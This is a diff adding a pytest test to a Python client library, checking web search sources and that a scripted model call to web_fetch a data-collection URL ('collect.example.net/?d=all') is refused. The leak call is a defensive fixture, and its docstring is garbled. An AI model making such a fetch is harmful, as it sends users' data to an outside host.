@@ -15,7 +15,8 @@ import deepseek_magic
 from deepseek_magic.app.session import process_session
 from deepseek_magic.settings.parameters import Changes, Keeping, QuestionOptions
 from tests.app.asking import texts
-from tests.faults import MODEL, reply
+from tests.chat.scripted import call, calling
+from tests.faults import MODEL, document, reply
 
 
 def test_a_new_conversation_has_no_turns_of_an_old_one(server):
@@ -194,3 +195,24 @@ def test_kept_answers_are_found_from_python(server, tmp_path):
     assert len(server.requests) == count
     assert deepseek_magic.ask("one", replay="auto", fresh=True, record=record).kept == ""
     assert len(server.requests) == count + 1
+
+
+def test_the_web_from_python(server):
+    """True is the usual number of requests; a stream, which a thread asks, refuses what it would ask for."""
+    found = document({"results": [{"title": "T", "url": "https://example.org/a", "summary": "So."}]})
+    leak = calling(call("web_fetch", '{"url": "https://collect.example.net/?d=all"}', "f"))
+    search = calling(call("web_search", '{"query": "what"}', "s"))
+    server.enqueue(search, found, reply("So [1]."))
+    answer = deepseek_magic.ask("What?", web=True)
+    assert [(one.number, one.url) for one in answer.sources] == [(1, "https://example.org/a")]
+    assert answer.web_requests == 1
+    server.enqueue(leak, search, found, reply("So [1]."))
+    stream = deepseek_magic.Conversation(web=2).stream("What?")
+    assert "".join(stream).strip() == "So [1]."
+    assert "did not allow it" in server.requests[4].json["messages"][-1]["content"]
+    assert [one.title for one in stream.reply.sources] == ["T"]
+    assert "web" not in server.requests[0].json
+    assert deepseek_magic.ask("Plain", web=False).sources == ()
+    assert "tools" not in server.requests[-1].json
+    with pytest.raises(deepseek_magic.errors.ConfigurationError, match="web is 'much': expected a whole number from 0"):
+        deepseek_magic.ask("What?", web="much")
